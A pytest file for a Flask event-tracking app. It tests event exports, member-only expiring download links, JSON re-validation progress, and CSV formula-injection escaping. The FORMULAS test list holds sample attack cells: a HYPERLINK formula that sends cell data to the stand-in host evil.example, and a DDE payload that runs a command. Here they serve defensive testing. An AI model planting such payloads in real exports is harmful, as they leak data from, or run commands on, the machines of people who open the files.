"""Exports and re-validation from the pages: export content equals the query's rows, the
mailed link works for members only and expires; re-validation progress as JSON."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from flask import render_template
from flask_login import login_user
from sqlalchemy import select

from app.auth.accounts import find_user
from app.background import exports
from app.extensions import db
from app.models import App, BackgroundJob, Event
from app.store import catalog
from app.store.events import store_events
from tests.accounts import Web, landed, link_in, log_in, page
from tests.support.factories import USER_LOGIN_SCHEMA, make_record
from tests.support.processes import wait_for

NOW = datetime.now(UTC).replace(microsecond=0)


@pytest.fixture
def developer(app, web, smtp_sink, make_user):
    def make() -> tuple[str, Web]:
        address = make_user()
        client = Web(app.test_client())
        assert landed(log_in(client, smtp_sink, address)) == "/apps"
        return address, client

    return make


def _app_with_events(app, owner: str) -> str:
    with app.app_context():
        created, _key = catalog.create_app(
            f"jobs-{uuid.uuid4().hex[:8]}", owner_id=find_user(owner).id
        )
        records = [
            make_record(
                str(created.id),
                event_name=name,
                status=status,
                payload={"eventName": name, "n": n, "text": 'comma, "quote"\nline'},
                received_at=(NOW - timedelta(minutes=n)).isoformat(),
            )
            for n in range(300)
            for name, status in [(("purchase", "invalid"), ("user_login", "valid"))[n % 2]]
        ]
        store_events(records)
        return str(created.id)


def _expected(app, app_id: str, **filters) -> list[dict]:
    with app.app_context():
        query = select(Event).where(Event.app_id == uuid.UUID(app_id))
        for column, value in filters.items():
            query = query.where(getattr(Event, column) == value)
        rows = db.session.scalars(query.order_by(Event.received_at, Event.id)).all()
        return [json.loads(json.dumps(exports.export_record(row), default=str)) for row in rows]


@pytest.mark.parametrize("fmt", ["ndjson", "csv"])
def test_an_export_equals_the_query_and_its_link_is_for_members_until_it_expires(
    app, developer, smtp_sink, batch_worker, emails_worker, fmt
):
    owner_address, owner = developer()
    _stranger_address, stranger = developer()
    app_id = _app_with_events(app, owner_address)
    started = owner.submit(
        f"/apps/{app_id}/exports",
        {
            "status": "invalid",
            "since": (NOW - timedelta(days=1)).strftime("%Y-%m-%dT%H:%M"),
            "until": (NOW + timedelta(minutes=1)).isoformat(),
            "format": fmt,
        },
        page="/apps",
    )
    assert "Exporting 150 events" in page(started)
    mail = smtp_sink.wait_for(owner_address, "your export is ready", timeout=60)
    link = link_in(mail)
    path = re.sub(r"^https?://[^/]+", "", link)
    downloaded = owner.get(path)
    assert downloaded.status_code == 200
    body = downloaded.get_data(as_text=True)
    expected = _expected(app, app_id, status="invalid")
    assert len(expected) == 150
    if fmt == "ndjson":
        assert [json.loads(line) for line in body.splitlines()] == expected
    else:
        rows = list(csv.DictReader(io.StringIO(body)))
        assert [r["id"] for r in rows] == [e["id"] for e in expected]
        assert [json.loads(r["payload"]) for r in rows] == [e["payload"] for e in expected]
        assert {r["status"] for r in rows} == {"invalid"}

    assert stranger.get(path).status_code == 404
    job_id = path.rsplit("/", 1)[1]
    with app.app_context():
        job = db.session.get(BackgroundJob, uuid.UUID(job_id))
        file_path = Path(job.file_path)
        job.expires_at = datetime.now(UTC) - timedelta(seconds=1)
        db.session.commit()
        assert owner.get(path).status_code == 410
        assert exports.remove_expired_exports() >= 1
    assert not file_path.exists()


def test_revalidation_from_the_page_reports_progress_as_json(app, developer, batch_worker):
    owner_address, owner = developer()
    _stranger_address, stranger = developer()
    with app.app_context():
        created, _key = catalog.create_app(
            f"jobs-{uuid.uuid4().hex[:8]}", owner_id=find_user(owner_address).id
        )
        catalog.set_schema(created, "user_login", USER_LOGIN_SCHEMA)
        app_id = str(created.id)
        store_events(
            [
                make_record(
                    app_id,
                    payload={"eventName": "user_login", "userId": "x"},
                    status="invalid",
                    schema_version=1,
                    received_at=NOW.isoformat(),
                )
                for _ in range(450)
            ]
        )
        relaxed = {**USER_LOGIN_SCHEMA, "properties": {"userId": {"type": "string"}}}
        catalog.set_schema(App.lookup(app_id), "user_login", relaxed)
    started = owner.submit(
        f"/apps/{app_id}/revalidations",
        {
            "event_name": "user_login",
            "schema_version": "2",
            "since": (NOW - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M"),
            "until": (NOW + timedelta(minutes=1)).isoformat(),
        },
        page="/apps",
    )
    assert "Re-validating 450 events" in page(started)
    with app.app_context():
        job_id = db.session.scalar(
            select(BackgroundJob.id).where(BackgroundJob.app_id == uuid.UUID(app_id))
        )
    url = f"/apps/{app_id}/jobs/{job_id}.json"

    def done():
        progress = owner.get(url).get_json()
        return progress["status"] == "done" and progress

    progress = wait_for(done, timeout=60)
    assert (progress["processed"], progress["changed"], progress["total"]) == (450, 450, 450)
    assert stranger.get(url).status_code == 404
    refused = owner.submit(
        f"/apps/{app_id}/revalidations",
        {"event_name": "user_login", "schema_version": "7", "since": "yesterday", "until": "now"},
        page="/apps",
    )
    assert "must be a date and time" in page(refused)


@pytest.mark.parametrize(
    ("template", "kind", "expected"),
    [
        ("plan/_revalidate.html", "revalidate", "Re-validate stored events"),
        ("live/_export.html", "export", "Export events"),
    ],
)
def test_the_job_partials_render_without_inline_scripts(app, make_user, template, kind, expected):
    address = make_user()
    with app.app_context():
        user = find_user(address)
        created, _key = catalog.create_app(f"jobs-{uuid.uuid4().hex[:8]}", owner_id=user.id)
        catalog.set_schema(created, "user_login", USER_LOGIN_SCHEMA)
        with app.test_request_context():
            login_user(user)
            html = render_template(template, app=db.session.get(App, created.id))
    assert expected in html and "Nothing started yet." in html
    assert re.findall(r"<script[^>]*>", html) == ['<script src="/static/js/background.js" defer>']
    assert "csrf_token" in html


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"]
FORMULAS += ["+1+1", "-2+3", "\tlead", "\rlead"]


def test_a_csv_export_never_starts_a_cell_with_a_formula_and_ndjson_is_unchanged(
    app, make_tracked_app, tmp_path
):
    tracked = make_tracked_app()
    for text in FORMULAS:
        stored_events_with(app, tracked["id"], event_name=text, client_event_id=text[:64])
    found = {}
    with app.app_context():
        for fmt in ("csv", "ndjson"):
            job = exports.start_export(
                uuid.UUID(tracked["id"]), NOW - timedelta(hours=1), NOW + timedelta(hours=1), fmt
            )
            db.session.commit()
            exports.run_export(job.id, str(tmp_path), chunk_rows=100)
            with (tmp_path / f"{job.id}.{fmt}").open(encoding="utf-8", newline="") as file:
                found[fmt] = file.read()
    rows = list(csv.reader(io.StringIO(found["csv"], newline="")))[1:]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = [json.loads(line)["event_name"] for line in found["ndjson"].splitlines()]
    assert sorted(row[2] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert sorted(names) == sorted(FORMULAS)  # NDJSON keeps the text as sent


def stored_events_with(app, app_id: str, **fields) -> None:
    with app.app_context():
        store_events([make_record(app_id, received_at=NOW.isoformat(), **fields)])
